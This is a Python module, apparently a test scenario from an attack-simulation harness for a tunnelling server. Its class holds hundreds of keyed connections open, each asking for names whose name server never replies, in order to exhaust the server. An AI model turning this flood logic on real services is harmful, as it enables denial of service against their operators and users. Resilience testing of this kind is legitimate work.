"""A key holder who asks for names whose name server is silent."""
import itertools
from collections import deque

from attack.floods import Flood, push, received
from helpers.names import DEAD
from helpers.peers import wire


class SilentNames(Flood):
    """What the server gives up is asked for again, under another name."""
    TITLE = 'silent names, {held}'
    HELD = 100, 600
    SOURCES = 100
    NAMED = True

    def rounds(self):
        held, numbers = deque(), itertools.count()
        while True:
            if len(held) < self.held:
                s = self.dial()
                push(s, wire.Opening(self.key, wire.request_body(DEAD % ('flood%d' % next(numbers)), 80)).head())
                held.append(s)
            s = held.popleft()
            answer = received(s)
            # Nothing yet, or a tunnel's acceptance and nothing behind it.
            if answer is None or answer.startswith(b'HTTP/1.1 101') and answer.endswith(b'\r\n\r\n'):
                held.append(s)
            else:
                s.close()
            yield
